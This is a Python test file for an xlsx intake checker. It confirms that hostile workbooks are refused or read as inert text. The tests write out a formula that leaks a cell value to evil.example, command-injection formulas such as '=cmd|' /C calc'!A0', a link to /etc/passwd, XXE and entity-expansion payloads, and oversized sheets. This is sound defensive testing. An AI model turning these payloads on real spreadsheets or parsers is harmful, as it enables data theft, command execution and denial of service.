"""The workbook that sites fill in, filled in by somebody who means harm: refused, or read as harmless text."""

from __future__ import annotations

import re
import resource
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from xlsxwriter import Workbook

from lead_metrics.catalogue.load import catalogue
from lead_metrics.commands.workbook import write_workbook
from lead_metrics.intake import sheets
from lead_metrics.intake.readers import read
from lead_metrics.intake.vault import Vault
from lead_metrics.settings import ROOT
from tests.intake.files import CANARY, checked, delivered

SHEET, TEXTS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
ROW = {"referral": "r1", "person": "p1", "at": "2024-03-05T10:00:00", "door": "community", "area": "depot"}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
MEMORY = 4 * 1024**3


def filled(folder: Path, formulas: bool = False, **values: str) -> Path:
    """Return a workbook of referrals as the template asks for it, with one row, some of its values replaced."""
    path = folder / "filled.xlsx"
    with Workbook(path, {"strings_to_formulas": False, "strings_to_urls": False}) as book:
        sheet = book.add_worksheet("referrals")
        for at, name in enumerate(catalogue().records["referrals"].columns):
            sheet.write_string(0, at, name)
            value = {**ROW, **values}.get(name)
            if value and formulas and name in values:
                sheet.write_formula(1, at, FORMULA, value=value)
            elif value:
                sheet.write_string(1, at, value)
    return path


def changed(path: Path, part: str, change: Callable[[bytes], bytes]) -> Path:
    """Write one part of a workbook anew."""
    other = path.with_name("changed.xlsx")
    with zipfile.ZipFile(path) as held, zipfile.ZipFile(other, "w", zipfile.ZIP_DEFLATED) as made:
        for one in held.infolist():
            content = held.read(one)
            made.writestr(one.filename, change(content) if one.filename == part else content)
    return other


def added(path: Path, part: str, content: bytes) -> Path:
    """Add a part to a workbook."""
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as held:
        held.writestr(part, content)
    return path


def refused(path: Path, said: str) -> None:
    """See a workbook refused whole, in one clear line, which repeats nothing of it."""
    report = checked(path)
    assert report.exit_code == 4
    [line] = report.lines()
    assert re.search(said, line) and path.name in line, line
    assert CANARY not in report.model_dump_json()


def test_the_template_itself_is_read_and_holds_nothing_that_runs(tmp_path: Path) -> None:
    path = tmp_path / "template.xlsx"
    write_workbook(path, "program")
    with zipfile.ZipFile(path) as held:
        content = b"".join(held.read(part) for part in held.namelist())
    assert b"<f>" not in content and b"externalLink" not in content
    sheets.check_sheets(zipfile.ZipFile(path), path)


def test_the_template_filled_in_is_delivered(tmp_path: Path, vault: Vault) -> None:
    assert delivered(vault, filled(tmp_path)).accepted == {"referrals": 1}


def test_a_formula_is_read_as_the_value_that_it_last_had(tmp_path: Path, vault: Vault) -> None:
    path = filled(tmp_path, formulas=True, door="community", area="depot")
    report = delivered(vault, path)
    assert report.accepted == {"referrals": 1}
    held = vault.deposit(catalogue()).records["referrals"]
    assert held["door"].to_list() == ["community"] and "HYPERLINK" not in str(held.to_dicts())


@pytest.mark.parametrize("text", [FORMULA, "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "+1+1", "-2+3", "\t=1+1"])
def test_a_text_that_begins_a_formula_is_no_code_and_names_a_place_in_bare_letters(
    text: str, tmp_path: Path, vault: Vault
) -> None:
    report = delivered(vault, filled(tmp_path, door=text))
    assert report.accepted == {"referrals": 0}
    assert [one.column for one in report.refusals] == ["door"]
    assert text.strip() not in report.model_dump_json()
    assert vault.deliveries() == []
    delivered(vault, filled(tmp_path, area=f"{text}<b>[x](y)"))
    [place] = vault.deposit(catalogue()).areas.rows(named=True)
    assert re.fullmatch(r"[a-z0-9_]+", place["area"]) and re.fullmatch(r"[A-Za-z0-9 ]+", place["name"])


@pytest.mark.parametrize("column", ["referral", "person"])
def test_an_identifier_is_never_kept_as_it_was_written(column: str, tmp_path: Path, vault: Vault) -> None:
    delivered(vault, filled(tmp_path, **{column: FORMULA}))
    records = vault.deposit(catalogue()).records
    assert "HYPERLINK" not in str({name: frame.to_dicts() for name, frame in records.items()})


def test_links_to_other_workbooks_are_not_followed(tmp_path: Path, vault: Vault) -> None:
    path = filled(tmp_path)
    link = b'<?xml version="1.0"?><externalLink xmlns="x"><externalBook r:id="rId1" xmlns:r="y"/></externalLink>'
    added(path, "xl/externalLinks/externalLink1.xml", link)
    added(
        path, "xl/externalLinks/_rels/externalLink1.xml.rels",
        b'<Relationships><Relationship Id="rId1" Target="file:///etc/passwd" TargetMode="External"/></Relationships>',
    )  # fmt: skip
    report = delivered(vault, path)
    assert report.accepted == {"referrals": 1}
    assert "root:" not in report.model_dump_json() + str(vault.deposit(catalogue()).records["referrals"].to_dicts())


@pytest.mark.parametrize("part", ["xl/vbaProject.bin", "xl/VBAPROJECT.BIN", "macros/vbaData.xml"])
def test_a_workbook_with_macros_is_refused_whatever_its_ending_says(part: str, tmp_path: Path) -> None:
    refused(added(filled(tmp_path), part, CANARY.encode()), "holds macros; save it as a workbook without them")


def test_a_macro_workbook_by_name_is_no_format_of_ours(tmp_path: Path) -> None:
    refused(filled(tmp_path).rename(tmp_path / "filled.xlsm"), "takes csv, csv.gz, xlsx, parquet")


@pytest.mark.parametrize("how", ["an entity", "a file", "many times itself"])
def test_an_entity_tells_no_file_and_grows_into_nothing(how: str, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(CANARY)
    nest = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    head = {
        "an entity": f'<!DOCTYPE x [<!ENTITY e "{CANARY}">]>',
        "a file": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>',
        "many times itself": f'<!DOCTYPE x [<!ENTITY e0 "{CANARY}">{nest}<!ENTITY e "&e11;">]>',
    }[how].encode()
    for part in (TEXTS, SHEET):
        path = changed(
            filled(tmp_path), part, lambda text: text.replace(b"?>", b"?>" + head, 1).replace(b"depot", b"&e;")
        )
        report = checked(path)
        assert CANARY not in report.model_dump_json()
        if report.file_refused is None:
            assert CANARY not in str([frame.to_dicts() for frame in read(path, ("xlsx",)).values()])
        assert len(report.lines()) <= 3


def far(text: bytes) -> bytes:
    """Add a cell in the last row and column that Excel knows."""
    return text.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')


def wide(text: bytes) -> bytes:
    """Say that the sheet is as large as can be, without a cell there."""
    return re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', text)


def placeless(text: bytes) -> bytes:
    """Take from each cell where it stands."""
    return re.sub(rb'<c r="[A-Z]+\d+"', b"<c", text)


def shouted(text: bytes) -> bytes:
    """Make one text of the sheet very long."""
    return text.replace(b"depot", b"L" * 30_000)


def repeated(text: bytes) -> bytes:
    """Tell the text of the last cell again in two hundred thousand rows."""
    number = re.findall(rb"<v>(\d+)</v>", text)[-1]
    rows = b"".join(b'<row r="%d"><c r="A%d" t="s"><v>%s</v></c></row>' % (n, n, number) for n in range(3, 200_000))
    return text.replace(b"</sheetData>", rows + b"</sheetData>")


def test_a_cell_far_off_is_refused_before_the_space_between_is_laid_out(tmp_path: Path) -> None:
    refused(changed(filled(tmp_path), SHEET, far), "reaches over more than 50,000,000 cells")


@pytest.mark.parametrize(
    "cell", [b'<c  t="n"  r = "XFD1048576" >', b"<c r='XFD1048576'>", b'<x:c r="XFD1048576">', b'<c\nr="ZZZZZZZ1">']
)
def test_a_cell_far_off_is_seen_however_it_is_written(cell: bytes, tmp_path: Path) -> None:
    path = changed(filled(tmp_path), SHEET, lambda text: far(text).replace(b'<c r="XFD1048576">', cell))
    refused(path, "reaches over more than 50,000,000 cells")


def test_cells_that_do_not_say_where_they_stand_are_refused(tmp_path: Path) -> None:
    refused(changed(filled(tmp_path), SHEET, placeless), "does not say where its cells stand")


def test_a_dimension_that_is_only_said_is_not_believed(tmp_path: Path, vault: Vault) -> None:
    assert delivered(vault, changed(filled(tmp_path), SHEET, wide)).accepted == {"referrals": 1}


def test_one_long_text_told_in_many_cells_is_refused(tmp_path: Path) -> None:
    path = changed(filled(tmp_path), TEXTS, shouted)
    refused(changed(path.rename(tmp_path / "long.xlsx"), SHEET, repeated), "grow beyond 1 GB")


@pytest.mark.parametrize("how", [far, wide, repeated])
def test_none_of_it_takes_the_memory_of_the_machine(how: Callable[[bytes], bytes], tmp_path: Path) -> None:
    path = changed(changed(filled(tmp_path), TEXTS, shouted).rename(tmp_path / "long.xlsx"), SHEET, how)
    done = subprocess.run(
        [sys.executable, "-m", "lead_metrics", "check", str(path), "--source", "program"],
        cwd=ROOT, capture_output=True, text=True, check=False,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY)),
    )  # fmt: skip
    assert done.returncode in (0, 3, 4), done.stderr[-2000:]
    assert "Traceback" not in done.stderr and "panicked" not in done.stderr


def test_a_part_that_stands_twice_is_looked_at_twice(tmp_path: Path) -> None:
    path = filled(tmp_path)
    with zipfile.ZipFile(path) as held:
        sheet = held.read(SHEET)
    with pytest.warns(UserWarning, match="Duplicate"):
        added(path, SHEET, far(sheet))
    refused(path, "reaches over more than 50,000,000 cells")
